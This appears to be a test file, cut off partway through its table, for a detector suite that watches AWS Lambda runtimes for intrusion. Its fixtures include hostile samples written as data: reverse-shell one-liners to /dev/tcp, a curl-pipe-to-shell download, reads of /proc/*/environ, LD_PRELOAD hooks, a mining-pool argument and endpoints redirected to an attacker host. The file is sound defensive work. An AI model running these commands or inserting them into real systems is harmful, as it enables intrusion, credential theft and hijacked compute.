/** Every detector: an observation that has what it looks for, and one that only looks like it. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Observation, ObservedSocket } from '../../src/contracts/evidence.ts';
import { DETECTORS } from '../../src/detect/index.ts';
import { PROCFS_SCRIPT } from '../../src/proc/aside/script.ts';
import { copies, locked, site } from './crowds.ts';
import {
  baselineOf,
  eventOf,
  EXTENSION,
  fileOf,
  findingsOf,
  INIT,
  INIT_MS,
  nowOf,
  ownOf,
  processOf,
  RUNTIME,
  socketOf,
  told,
  within,
  type Look,
} from './scene.ts';

interface Case {
  /** The finding that must be there, `detector:severity`. */
  readonly finds: string;
  readonly in: Look;
  /** What only looks like it: the detector must be silent, or say no more than this. */
  readonly not: Look;
  readonly atMost?: 'low' | 'medium';
}

/** A Python runtime with connections to the Runtime API, now and at init. */
function pythonClients(now: readonly string[], then: readonly string[]): Look {
  const runtime = {
    ...RUNTIME,
    exe: '/var/lang/bin/python3.13',
    comm: 'python3.13',
    argv: ['/var/lang/bin/python3.13', '/var/runtime/bootstrap.py'],
  };
  const sockets = (inodes: readonly string[]): ObservedSocket[] =>
    inodes.map((inode) => socketOf({ remoteAddress: '127.0.0.1', remotePort: 9001, inode, pids: [9] }));
  return look(
    { processes: [runtime], sockets: sockets(now) },
    baselineOf({ processes: [INIT, EXTENSION, runtime], sockets: sockets(then) }),
  );
}

/** The runtime while the exec wrapper of the configuration is at work. */
const WRAPPER = {
  ...RUNTIME,
  exe: '/usr/bin/bash',
  argv: ['/bin/bash', '/opt/wrap', 'node'],
  env: { ...RUNTIME.env, AWS_LAMBDA_EXEC_WRAPPER: '/opt/wrap' },
};
const look = (facts: Partial<Observation>, baseline?: Observation): Look => ({
  now: nowOf(facts),
  ...(baseline === undefined ? {} : { baseline }),
});
const inside = (facts: Partial<Observation>): Look => ({ now: within(facts) });
const recorded = (...events: Parameters<typeof eventOf>[0][]): Look =>
  inside({ recorded: { events: events.map(eventOf), left: 0 } });
const shell = (text: string, facts: Parameters<typeof eventOf>[0] = {}): Look =>
  recorded({ subject: '/bin/sh', argv: ['/bin/sh', '-c', text], ...facts });
/** A process that is connected to a public address. */
const talks = (facts: Parameters<typeof processOf>[0]): Look =>
  look({ processes: [processOf(facts)], sockets: [socketOf({ remoteAddress: '203.0.113.7' })] });
const one = (facts: Parameters<typeof processOf>[0]): Look => look({ processes: [processOf(facts)] });
/** A process that was there at the end of init. */
function sinceInit(facts: Parameters<typeof processOf>[0]): Look {
  const process = processOf({ startMs: INIT_MS - 500, ...facts });
  return look({ processes: [process] }, baselineOf({ processes: [INIT, EXTENSION, RUNTIME, process] }));
}

/** A shell on pipes, and what happens beside it. */
function tied(connection: Parameters<typeof eventOf>[0], beside?: Parameters<typeof eventOf>[0]): Look {
  const origin = ['/var/task/index.mjs'];
  const before = { timeMs: INIT_MS + 24_500, origin };
  return recorded(
    { subject: '/bin/sh', argv: ['/bin/sh'], origin, lineage: { child: 44, stdio: ['pipe', 'pipe', 'pipe'] } },
    { kind: 'connect', subject: '203.0.113.7:4444', origin, ...connection },
    ...(beside === undefined ? [] : [{ ...before, ...beside }]),
  );
}

/** A connection of the runtime that the main thread has not opened. */
function threads(socket: Parameters<typeof socketOf>[0]): Look {
  return inside({
    sockets: [socketOf({ remoteAddress: '203.0.113.7', pids: [9], ...socket })],
    heard: {
      addresses: new Set(['198.51.100.20:443']),
      workers: [eventOf({ kind: 'worker', subject: 'thread' })],
      asksRuntimeApi: false,
    },
  });
}

/** The runtime at a first look that came later than init. */
function late(facts: Parameters<typeof processOf>[0]): Look {
  const processes = [INIT, EXTENSION, { ...RUNTIME, ...facts }];
  return { now: within({ processes }), baseline: baselineOf({ by: 'process', self: 9, processes, own: ownOf() }) };
}

function waits(remoteAddress: string): Look {
  return look({
    processes: [
      processOf({ exe: '/usr/bin/sh', argv: ['/bin/sh'], stdio: ['socket:[1]', 'socket:[2]', 'socket:[3]'] }),
    ],
    sockets: [socketOf({ remoteAddress, pids: [9] })],
  });
}

// biome-ignore format: a table, a row a line
const CASES: Readonly<Record<string, Case>> = {
  'another program under the pid of the runtime': { finds: 'runtime-changed:critical', in: look({ processes: [{ ...RUNTIME, exe: '/tmp/new_runtime' }] }), not: look({ processes: [{ ...RUNTIME, argv: ['my-service'] }] }), atMost: 'low' },
  'another interpreter of the system under the pid of the runtime': { finds: 'runtime-changed:high', in: look({ processes: [{ ...RUNTIME, exe: '/usr/bin/python3' }] }), not: look({ processes: [processOf({ pid: 9, startTicks: 9999, role: 'runtime', exe: '/usr/bin/python3' })] }) },
  'a program that a wrapper has not executed': { finds: 'runtime-changed:critical', in: look({ processes: [{ ...RUNTIME, exe: '/tmp/node' }] }, baselineOf({ processes: [INIT, EXTENSION, WRAPPER] })), not: look({ processes: [{ ...RUNTIME, env: { ...WRAPPER.env, NODE_OPTIONS: '--require /opt/monitor.cjs' } }] }, baselineOf({ processes: [INIT, EXTENSION, WRAPPER] })), atMost: 'low' },
  'the same program once more under the pid of the runtime': { finds: 'runtime-changed:high', in: look({ processes: [{ ...RUNTIME, layout: '7:8:9' }] }), not: look({ processes: [{ ...RUNTIME, argv: ['my-service'] }, processOf({ layout: '7:8:9' })] }), atMost: 'low' },
  'a ring of the black box that was rewritten': { finds: 'rewritten-record:high', in: look({ doubts: [{ identity: '00:2a:7', holders: [9], changed: [17], erased: [] }] }), not: look({ doubts: [] }) },
  'a memfd': { finds: 'staged-executable:high', in: one({ exe: '/memfd:x', exeDeleted: true }), not: one({ exe: '/var/task/memfd:x' }) },
  'a deleted executable of /tmp': { finds: 'staged-executable:high', in: one({ exe: '/tmp/stage2', exeDeleted: true }), not: one({ exe: '/tmpfiles/stage2' }) },
  'an executable of /tmp': { finds: 'staged-executable:medium', in: one({ exe: '/tmp/tool' }), not: look({ processes: [processOf({ exe: '/tmp/tool' })] }, baselineOf({ processes: [processOf({ exe: '/tmp/tool' })] })), atMost: 'low' },
  'the runtime out of /tmp': { finds: 'staged-executable:critical', in: look({ processes: [{ ...RUNTIME, exe: '/tmp/node' }] }), not: look({}) },
  'a new ELF': { finds: 'staged-file:low', in: look({ files: [fileOf({ magic: 'elf' })] }), not: look({ files: [fileOf({ magic: 'elf', ctimeMs: INIT_MS - 1 })] }) },
  'a new script behind a dot': { finds: 'staged-file:medium', in: look({ files: [fileOf({ path: '/tmp/.x', magic: 'script' })] }), not: look({ files: [fileOf({ path: '/tmp/.x', magic: 'text' })] }) },
  'a link to the runtime': { finds: 'staged-file:medium', in: look({ files: [fileOf({ type: 'link', target: '/var/runtime/lib/lambda_handler.rb', magic: 'unread' })] }), not: look({ files: [fileOf({ type: 'link', target: '/tmp/cache/1', magic: 'unread' })] }) },
  'a preloaded object': { finds: 'mapped-object:high', in: one({ mapped: ['/tmp/hook.so'], env: { LD_PRELOAD: '/tmp/hook.so' } }), not: one({ mapped: ['/memfd:libffi (deleted)'] }), atMost: 'low' },
  'an object of /tmp in the runtime': { finds: 'mapped-object:medium', in: look({ processes: [{ ...RUNTIME, mapped: ['/tmp/a.node'] }] }), not: look({ processes: [{ ...RUNTIME, mapped: [] }] }) },
  'the name of a kernel thread': { finds: 'disguised-name:high', in: one({ argv: ['[kworker/0:1]'] }), not: one({ argv: ['kworkspace'] }) },
  'a python that is none': { finds: 'disguised-name:critical', in: one({ exe: '/tmp/python', comm: 'python', argv: ['/tmp/python'] }), not: one({ exe: '/usr/bin/python3.12', comm: 'python3', argv: ['python3', '/var/task/job.py'] }) },
  'a node by its arguments alone': { finds: 'disguised-name:low', in: one({ exe: '/var/task/bin/tool', argv: ['node'] }), not: one({ exe: '/var/lang/bin/node', comm: 'MainThread', argv: ['node', '/var/task/worker.mjs'] }) },
  'a shell that waits for commands': { finds: 'shell-child:medium', in: one({ exe: '/usr/bin/bash', argv: ['bash', '-i'] }), not: one({ exe: '/usr/bin/bash', argv: ['sh', '-c', 'ls /var/task'] }), atMost: 'low' },
  'a shell with a socket of its own': { finds: 'shell-child:critical', in: one({ exe: '/usr/bin/bash', argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] }), not: one({ exe: '/var/task/bin/bashful', argv: ['bashful'] }) },
  'a downloader': { finds: 'shell-child:medium', in: one({ exe: '/usr/bin/curl', argv: ['curl', 'https://x.example'] }), not: one({ exe: '/usr/bin/curling' }) },
  'a script of /tmp': { finds: 'second-interpreter:medium', in: one({ exe: '/usr/bin/python3', argv: ['python3', '/tmp/bootstrap.py'] }), not: one({ exe: '/var/lang/bin/node', argv: ['node', '/var/task/worker.mjs'] }), atMost: 'low' },
  'code in arguments': { finds: 'second-interpreter:medium', in: one({ exe: '/usr/bin/perl', argv: ['perl', '-e', 'sleep 99'] }), not: one({ exe: '/usr/bin/python3', argv: ['python3', '-c', 'from multiprocessing.spawn import spawn_main'] }), atMost: 'low' },
  'a shell for somebody outside': { finds: 'stdio-socket:critical', in: look({ processes: [processOf({ exe: '/usr/bin/sh', stdio: ['socket:[700]', 'socket:[700]', 'socket:[700]'] })], sockets: [socketOf({})] }), not: one({ exe: '/usr/bin/sh', argv: ['sh', '-c', 'x'], stdio: ['socket:[12]', 'socket:[13]', 'socket:[14]'] }) },
  'a terminal': { finds: 'stdio-socket:medium', in: one({ stdio: ['/dev/pts/0', '/dev/pts/0', '/dev/pts/0'] }), not: one({ stdio: ['/dev/null', 'pipe:[1]', 'pipe:[1]'] }) },
  'a shell that was left behind': { finds: 'survivor:high', in: one({ exe: '/usr/bin/sh', argv: ['sh', '-c', 'while :; do sleep 1; done'], ppid: 1 }), not: one({ exe: '/var/task/bin/esbuild', argv: ['esbuild', '--service'] }), atMost: 'low' },
  'a program that listens to nobody': { finds: 'survivor:medium', in: one({ session: 40, stdio: ['/dev/null', '/dev/null', '/dev/null'] }), not: one({ session: 40, stdio: ['/dev/null', 'pipe:[1]', 'pipe:[2]'] }), atMost: 'low' },
  'somebody else at the Runtime API': { finds: 'runtime-api-client:high', in: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '127.0.0.1', remotePort: 9001 })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '127.0.0.1', remotePort: 9001, pids: [9, 40] })] }) },
  'another Runtime API for the runtime': { finds: 'runtime-api-proxy:high', in: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, AWS_LAMBDA_RUNTIME_API: '127.0.0.1:8888' } }] }), not: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, AWS_LAMBDA_RUNTIME_API: '127.0.0.1:9002', AWS_LAMBDA_EXEC_WRAPPER: '/opt/monitor' } }] }), atMost: 'medium' },
  'an extension that listens as the Runtime API': { finds: 'runtime-api-proxy:high', in: look({ sockets: [socketOf({ state: 'LISTEN', localAddress: '127.0.0.1', localPort: 9001, remotePort: 0, pids: [5] })] }), not: look({ sockets: [socketOf({ state: 'LISTEN', localAddress: '127.0.0.1', localPort: 9001, remotePort: 0, pids: [1] }), socketOf({ state: 'LISTEN', localAddress: '127.0.0.1', localPort: 2773, remotePort: 0, pids: [5] })] }) },
  'a Runtime API that code has changed': { finds: 'runtime-api-proxy:high', in: inside({ own: ownOf({ env: { AWS_LAMBDA_RUNTIME_API: '127.0.0.1:8888' } }) }), not: inside({}) },
  'a loader variable into /tmp': { finds: 'environment-drift:high', in: one({ env: { LD_PRELOAD: '/tmp/a.so' } }), not: one({ env: { LD_LIBRARY_PATH: '/tmp/al2023/lib' } }), atMost: 'low' },
  'a runtime that was started with code of /tmp': { finds: 'environment-drift:high', in: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, NODE_OPTIONS: '--require /tmp/a.cjs' } }] }), not: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, NODE_OPTIONS: '--require /opt/nodejs/monitor.cjs' } }] }, baselineOf({ processes: [INIT, EXTENSION, { ...RUNTIME, env: { ...RUNTIME.env, NODE_OPTIONS: '--require /opt/nodejs/monitor.cjs' } }] })), atMost: 'low' },
  'a runtime that was executed once more with code of /tmp': { finds: 'environment-drift:high', in: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, NODE_OPTIONS: '--require=/tmp/a.cjs' } }] }), not: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, AWS_ACCESS_KEY_ID: 'ASIAOWNOWNOWNOWNOWN2' } }] }) },
  'an extension that was executed once more with another endpoint': { finds: 'environment-drift:medium', in: look({ processes: [{ ...EXTENSION, env: { ...EXTENSION.env, AWS_ENDPOINT_URL: 'http://127.0.0.1:8080' } }] }), not: look({ processes: [EXTENSION] }) },
  'an endpoint of a child that is not the function\'s': { finds: 'environment-drift:low', in: one({ env: { AWS_ENDPOINT_URL_S3: 'http://203.0.113.7' } }), not: look({ processes: [{ ...RUNTIME, env: { ...RUNTIME.env, HTTPS_PROXY: 'http://p' } }, processOf({ env: { HTTPS_PROXY: 'http://p', _HANDLER: 'x.y' } })] }, baselineOf({ processes: [INIT, EXTENSION, { ...RUNTIME, env: { ...RUNTIME.env, HTTPS_PROXY: 'http://p' } }] })) },
  'a proxy that code has set': { finds: 'environment-drift:medium', in: inside({ own: ownOf({ env: { HTTPS_PROXY: 'http://127.0.0.1:8080' } }) }), not: inside({ own: ownOf({ env: { AWS_LAMBDA_RUNTIME_API: '127.0.0.1:9001', PATH: '/tmp/bin:/usr/bin' } }) }), atMost: 'low' },
  'a module that every Python imports': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/tmp/.site/sitecustomize.py' })] }), not: look({ files: [fileOf({ path: '/tmp/deps/tracer-1.0.dist-info', type: 'directory' }), fileOf({ path: '/tmp/deps/tracer/bootstrap/sitecustomize.py' })] }), atMost: 'medium' },
  'a package that every Python imports': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/tmp/a/usercustomize/__init__.py' })] }), not: look({ files: [fileOf({ path: '/tmp/a/customize/__init__.py' }), fileOf({ path: '/tmp/a/__pycache__/sitecustomize.cpython-313.pyc' })] }) },
  'a link to a module that every Python imports': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/dev/shm/sitecustomize.cpython-313-x86_64-linux-gnu.so', type: 'link' })] }), not: look({ files: [fileOf({ path: '/tmp/sitecustomize.py', type: 'directory' }), fileOf({ path: '/tmp/my_sitecustomize.py' })] }) },
  'an archive with a module that every Python imports': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/tmp/x.zip', magic: 'archive', startsCode: true })] }), not: look({ files: [fileOf({ path: '/tmp/x.zip', magic: 'archive' })] }) },
  'a .pth file with code': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/tmp/u/lib/python3.13/site-packages/x.pth', magic: 'text', startsCode: true })] }), not: look({ files: ['/tmp/u/model.pth', '/tmp/v/site-packages/model.pth'].map((path, at) => fileOf({ path, ...(at === 0 ? { startsCode: true } : {}) })) }) },
  'a .pth file that an installation left': { finds: 'startup-hook:medium', in: look({ files: [fileOf({ path: '/tmp/v/lib/python3.13/site-packages/setuptools-80.dist-info', type: 'directory' }), fileOf({ path: '/tmp/v/lib/python3.13/site-packages/distutils-precedence.pth', startsCode: true })] }), not: look({ files: [fileOf({ path: '/tmp/x.txt', magic: 'text' })] }) },
  'a .pth file of a virtual environment that is made new': { finds: 'startup-hook:medium', in: look({ files: [fileOf({ path: '/tmp/v/pyvenv.cfg' }), fileOf({ path: '/tmp/v/lib/python3.13/site-packages', type: 'directory' }), fileOf({ path: '/tmp/v/lib/python3.13/site-packages/_virtualenv.pth', startsCode: true })] }), not: look({ files: [fileOf({ path: '/tmp/v/pyvenv.cfg' })] }) },
  'a hook that was there at init': { finds: 'startup-hook:medium', in: look({ files: [fileOf({ path: '/tmp/sitecustomize.py', ctimeMs: INIT_MS - 1 })] }), not: look({ files: [fileOf({ path: '/tmp/deps/x.egg-info', type: 'directory' }), fileOf({ path: '/tmp/deps/x/sitecustomize.py', ctimeMs: INIT_MS - 1 })] }), atMost: 'low' },
  'a module that every Python imports behind many profiles': { finds: 'startup-hook:high', in: look({ files: [...Array.from({ length: 40 }, (_, at) => fileOf({ path: `/tmp/${at}/.bashrc` })), fileOf({ path: '/tmp/z/sitecustomize.py' })] }), not: look({ files: Array.from({ length: 40 }, (_, at) => fileOf({ path: `/tmp/${at}/.bashrc` })) }), atMost: 'medium' },
  'a profile of a shell': { finds: 'startup-hook:medium', in: look({ files: [fileOf({ path: '/tmp/.bashrc' })] }), not: look({ files: [fileOf({ path: '/tmp/.bash_history' })] }) },
  'the environment of another process': { finds: 'environ-reader:high', in: one({ peeks: ['/proc/9/environ'] }), not: look({ processes: [processOf({ role: 'extension', peeks: ['/proc/9/maps'] })] }), atMost: 'low' },
  'a cat of an environment': { finds: 'environ-reader:high', in: one({ exe: '/usr/bin/cat', argv: ['cat', '/proc/9/environ'] }), not: one({ exe: '/usr/bin/cat', argv: ['cat', '/proc/meminfo'] }) },
  'a miner': { finds: 'miner:critical', in: one({ argv: ['x', '-o', 'stratum+tcp://pool.example:3333', '--donate-level=1'] }), not: one({ argv: ['x', '--level', '4AAAA'] }) },
  'work at the port of a pool': { finds: 'miner:high', in: look({ processes: [processOf({ ticks: 1900 })], sockets: [socketOf({ remotePort: 3333 })] }), not: look({ processes: [processOf({ ticks: 1 })], sockets: [socketOf({ remotePort: 3333 })] }), atMost: 'medium' },
  'a shell that talks to a stranger': { finds: 'outbound:high', in: talks({ exe: '/usr/bin/bash', argv: ['bash'] }), not: talks({ exe: '/usr/bin/curl', argv: ['curl', 'https://x.example'] }), atMost: 'low' },
  'a text that talks to a stranger': { finds: 'outbound:high', in: talks({ exe: '/usr/bin/python3', argv: ['python3', '-c', 'import socket'] }), not: talks({ exe: '/usr/bin/python3', argv: ['python3', '-m', 'gunicorn'] }), atMost: 'low' },
  'a program of /tmp that hides and talks to a stranger': { finds: 'outbound:critical', in: talks({ exe: '/tmp/.tool' }), not: talks({ exe: '/tmp/tool' }), atMost: 'low' },
  'a program of /tmp that is loose and talks to a stranger': { finds: 'outbound:critical', in: talks({ exe: '/tmp/tool', ppid: 1 }), not: look({ processes: [processOf({ exe: '/tmp/tool', ppid: 1 })], sockets: [socketOf({ remoteAddress: '52.94.5.1' })] }) },
  'another resolver': { finds: 'foreign-resolver:high', in: look({ processes: [processOf({})], sockets: [socketOf({ protocol: 'udp', remoteAddress: '127.0.0.1', remotePort: 53, state: 'ESTABLISHED' })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ protocol: 'udp', remoteAddress: '169.254.78.1', remotePort: 53 })] }) },
  'a resolver that code has set': { finds: 'foreign-resolver:medium', in: inside({ own: ownOf({ resolvers: ['8.8.8.8'] }) }), not: inside({}) },
  'a resolver of somebody that code has set': { finds: 'foreign-resolver:high', in: inside({ own: ownOf({ resolvers: ['203.0.113.9'] }) }), not: inside({ own: ownOf({ resolvers: ['9.9.9.9'] }) }), atMost: 'medium' },
  'questions of the runtime to somebody': { finds: 'foreign-resolver:high', in: look({ sockets: [socketOf({ protocol: 'udp', remoteAddress: '203.0.113.9', remotePort: 53, pids: [9] })] }), not: look({ sockets: [socketOf({ protocol: 'udp', remoteAddress: '8.8.4.4', remotePort: 53, pids: [9] })] }), atMost: 'medium' },
  'what an import has started': { finds: 'shell-child:critical', in: sinceInit({ exe: '/bin/bash', argv: ['bash', '-c', 'exec 9<>/dev/tcp/203.0.113.7/443'], ppid: 9 }), not: sinceInit({ exe: '/bin/bash', argv: ['bash', '/opt/monitor/run.sh'], ppid: 5 }) },
  'what an import has started and left to init': { finds: 'shell-child:critical', in: sinceInit({ exe: '/bin/bash', argv: ['bash', '-c', 'exec 9<>/dev/tcp/203.0.113.7/443'], ppid: 1, env: { LAMBDA_TASK_ROOT: '/var/task' } }), not: sinceInit({ exe: '/bin/bash', argv: ['bash', '/opt/monitor/run.sh'], ppid: 1 }) },
  'a shell that has cut itself loose': { finds: 'survivor:high', in: one({ exe: '/bin/bash', argv: ['bash', 'x.sh'], ppid: 1 }), not: sinceInit({ exe: '/bin/bash', argv: ['bash', 'x.sh'], ppid: 9, session: 40, stdio: ['/dev/null', '/dev/null', '/dev/null'] }), atMost: 'medium' },
  'a second client in a runtime that has one': { finds: 'runtime-api-client:high', in: pythonClients(['700', '701'], ['700']), not: pythonClients(['700'], ['700']) },
  'a client that has connected anew': { finds: 'runtime-api-client:high', in: pythonClients(['700', '702'], ['700']), not: pythonClients(['701'], ['700']) },
  'an internal extension, there since init': { finds: 'runtime-api-client:high', in: pythonClients(['700', '703'], ['700']), not: pythonClients(['700', '701', '702'], ['700', '701']) },
  'code that every Python of a child runs': { finds: 'environment-drift:high', in: look({ processes: [processOf({ env: { PYTHONPATH: '/tmp/x:/var/task' } })], files: [fileOf({ path: '/tmp/x/sitecustomize.py' })] }), not: look({ processes: [processOf({ env: { PYTHONPATH: '/tmp/x:/var/task' } })], files: [fileOf({ path: '/tmp/x/tracer/sitecustomize.py' })] }), atMost: 'low' },
  'questions that code itself sends to somebody': { finds: 'foreign-resolver:high', in: recorded({ kind: 'datagram', subject: '203.0.113.53:53' }), not: recorded({ kind: 'datagram', subject: '169.254.78.1:53' }, { kind: 'datagram', subject: '203.0.113.53:4433' }) },
  'DNS over HTTPS': { finds: 'foreign-resolver:high', in: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '1.1.1.1' })] }), not: look({ processes: [processOf({})], sockets: [socketOf({ remoteAddress: '1.1.1.1', remotePort: 80 })] }) },
  'a key of somebody else': { finds: 'foreign-credentials:medium', in: look({ files: [fileOf({ accessKeys: ['AKIAOTHEROTHEROTHER1'] })] }), not: look({ files: [fileOf({ accessKeys: ['ASIAOWNOWNOWNOWNOWN1'] })] }) },
  'an extension that was not there': { finds: 'unknown-extension:high', in: look({ extensions: ['monitor', 'sneak'] }), not: look({}) },
  'a file that turns extensions off': { finds: 'unknown-extension:medium', in: look({ extensions: ['disable-extensions-jwigqn8j'] }, baselineOf({ extensions: ['disable-extensions-jwigqn8j'] })), not: look({}) },
  'an extension that is not listed': { finds: 'unknown-extension:medium', in: { now: nowOf(), policy: 'high,allow:extension=known' }, not: { now: nowOf(), policy: 'high,allow:extension=mon*' } },
  'a changed handler file': { finds: 'code-changed:high', in: look({ code: { handler: 'index.handler', stats: { '/var/task': '1:2:3:4:5', '/var/task/index.mjs': '1:3:9:9:9' } } }), not: look({}) },
  'another handler': { finds: 'code-changed:high', in: look({ code: { ...baselineOf().code, handler: 'evil.handler' } }), not: look({ code: { ...baselineOf().code, handler: undefined } }) },
  'a built-in out of a text': { finds: 'patched-builtins:high', in: inside({ own: ownOf({ patched: [{ name: 'JSON.parse', script: '' }] }) }), not: inside({ own: ownOf({ patched: [{ name: 'http.request', script: 'file:///opt/nodejs/trace.mjs' }] }) }), atMost: 'low' },
  'a command line of an intruder': { finds: 'child-process-use:high', in: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', argv: ['sh', '-c', 'curl -s http://x.example/a | sh'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', argv: ['sh', '-c', 'curl -s http://x.example/a | python3 -m json.tool'], pid: 3, atMs: 1 }] }) }) },
  'a file of /tmp that was started': { finds: 'child-process-use:low', in: inside({ files: [fileOf({ path: '/tmp/chromium' })], own: ownOf({ spawned: [{ file: '/tmp/chromium', argv: ['chromium', '--headless'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/var/task/bin/x', argv: ['x', '/tmp/in', '/tmp/out'], pid: 3, atMs: 1 }] }) }) },
  'what was put into a text for a shell': { finds: 'child-process-use:high', in: shell('curl --silent x.doc; env'), not: shell('curl --silent x.doc; env', { cut: 9 }), atMost: 'medium' },
  'a start that has ended': { finds: 'child-process-use:critical', in: shell('bash -i >& /dev/tcp/203.0.113.7/1 0>&1'), not: shell('curl -s https://x | python3 -m json.tool') },
  'an environment that a child reads': { finds: 'child-process-use:high', in: recorded({ kind: 'execve', subject: '/bin/cat', argv: ['cat', '/proc/9/environ'] }), not: recorded({ kind: 'execve', subject: '/bin/cat', argv: ['cat', '/proc/9/enviro'], cut: 2 }) },
  'a program that a text starts': { finds: 'code-from-nowhere:high', in: recorded({ subject: 'ls', argv: ['ls'], origin: ['eval', '/var/task/index.mjs'] }), not: recorded({ subject: 'ls', argv: ['ls'], origin: ['/var/task/index.mjs', 'eval'] }) },
  'a connection of a data: URL': { finds: 'code-from-nowhere:high', in: recorded({ kind: 'connect', subject: '203.0.113.7:443', origin: ['data:'] }), not: recorded({ kind: 'request', subject: 'GET https://example.com', origin: ['vm'] }), atMost: 'medium' },
  'a debugger for everybody': { finds: 'open-inspector:high', in: recorded({ kind: 'inspector', subject: '0.0.0.0:9229' }), not: recorded({ kind: 'inspector', subject: '127.0.0.1:9229' }), atMost: 'medium' },
  'a debugger in the network': { finds: 'open-inspector:high', in: recorded({ kind: 'inspector', subject: '[::]:9229' }), not: recorded({ kind: 'inspector', subject: '[::1]:9229' }), atMost: 'medium' },
  'a method of the SDK': { finds: 'patched-builtins:high', in: recorded({ kind: 'method', subject: '/var/task/node_modules/@aws-sdk/client-s3/index.js S3Client.send' }), not: recorded({ kind: 'method', subject: '/var/task/node_modules/lodash/lodash.js send' }), atMost: 'low' },
  'a signer of botocore': { finds: 'patched-builtins:high', in: recorded({ kind: 'method', subject: 'botocore.auth SigV4Auth.add_auth' }), not: recorded({ kind: 'method', subject: 'botocore.client BaseClient._make_api_call' }), atMost: 'medium' },
  'what the SDK exports': { finds: 'patched-builtins:medium', in: recorded({ kind: 'method', subject: '/var/task/node_modules/@smithy/core/index.js exports' }), not: recorded({ kind: 'method', subject: '/var/task/node_modules/smithy/index.js exports' }), atMost: 'low' },
  'a hook of the recorder that is gone': { finds: 'patched-builtins:medium', in: recorded({ kind: 'hook', subject: 'child_process' }), not: recorded({ kind: 'prototype', subject: 'Array.prototype.last' }), atMost: 'low' },
  'a text that a child loads': { finds: 'environment-drift:high', in: recorded({ subject: 'node', argv: ['node', 'x.js'], detail: { env: 'NODE_OPTIONS=--import data:text/javascript,1' } }), not: recorded({ subject: 'node', argv: ['node', 'x.js'], detail: { env: 'NODE_OPTIONS=--report-directory=/tmp/r NODE_PATH=/opt/x' } }), atMost: 'low' },
  'an object that a child loads': { finds: 'environment-drift:high', in: recorded({ subject: 'ls', argv: ['ls'], detail: { env: 'NODE_PATH=/opt/x LD_PRELOAD=/tmp/x.so' } }), not: recorded({ subject: 'ls', argv: ['ls'], detail: { env: 'LD_LIBRARY_PATH=/tmp/lib' } }), atMost: 'low' },
  'modules of /tmp before others': { finds: 'environment-drift:medium', in: recorded({ subject: 'node', argv: ['node'], detail: { env: 'NODE_PATH=/tmp/m' } }), not: recorded({ subject: 'node', argv: ['node'], detail: { env: 'NODE_PATH=/var/task/m' } }), atMost: 'low' },
  'an endpoint that code turns to somebody': { finds: 'environment-drift:high', in: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL_S3: 'https://s3.evil.example' } }) }), not: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL_S3: 'https://bucket.vpce-1a.s3.eu-central-1.vpce.amazonaws.com', AWS_ENDPOINT_URL: 'http://127.0.0.1:4566' } }) }), atMost: 'medium' },
  'an endpoint at an address of somebody': { finds: 'environment-drift:high', in: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL: 'http://203.0.113.7:443' } }) }), not: inside({ own: ownOf({ env: { AWS_ENDPOINT_URL: 'http://10.0.3.4:9000', HTTPS_PROXY: 'http://203.0.113.7' } }) }), atMost: 'medium' },
  'a module before that of the language': { finds: 'environment-drift:high', in: look({ processes: [processOf({ env: { PYTHONPATH: '/tmp/x:/var/task' } })], files: [fileOf({ path: '/tmp/x/json/__init__.py' })] }), not: look({ processes: [processOf({ env: { PYTHONPATH: '/tmp/x:/var/task' } })], files: [fileOf({ path: '/tmp/x/simplejson/json.py' })] }), atMost: 'low' },
  'a dropper that has removed itself': { finds: 'child-process-use:high', in: recorded({ subject: '/tmp/.x', argv: ['x'] }), not: recorded({ subject: '/tmp/tool-1/convert', argv: ['convert'] }), atMost: 'medium' },
  'a file of /tmp that hides': { finds: 'child-process-use:medium', in: inside({ files: [fileOf({ path: '/tmp/.x' })], recorded: { events: [eventOf({ subject: '/tmp/.x', argv: ['x'] })], left: 0 } }), not: inside({ files: [fileOf({ path: '/tmp/.dir/x' })], recorded: { events: [eventOf({ subject: '/tmp/.dir/x', argv: ['x'] })], left: 0 } }), atMost: 'low' },
  'a script that was written before it ran': { finds: 'child-process-use:medium', in: inside({ files: [fileOf({ path: '/tmp/a/x.py' })], recorded: { events: [eventOf({ kind: 'write', subject: '/tmp/a/x.py' }), eventOf({ subject: '/usr/bin/python3', argv: ['python3', '/tmp/a/x.py'] })], left: 0 } }), not: inside({ files: [fileOf({ path: '/tmp/a/x.py' })], recorded: { events: [eventOf({ kind: 'write', subject: '/tmp/a/y.py' }), eventOf({ subject: '/usr/bin/python3', argv: ['python3', '/tmp/a/x.py', '/tmp/a/y.py'] })], left: 0 } }), atMost: 'low' },
  'a script that hides and has removed itself': { finds: 'child-process-use:high', in: recorded({ subject: '/bin/sh', argv: ['sh', '/tmp/.x.sh'] }), not: recorded({ subject: 'python3', argv: ['python3', '/tmp/pip-build-env-1/_in_process.py', '/tmp/.x'] }), atMost: 'medium' },
  'a shell on the pipes of a socket': { finds: 'child-process-use:high', in: tied({}), not: tied({}, { kind: 'request', subject: 'GET http://example.com' }) },
  'a shell on the pipes of a socket at Amazon': { finds: 'child-process-use:high', in: tied({ subject: '52.94.5.1:443' }), not: tied({ subject: '10.0.12.5:5432' }) },
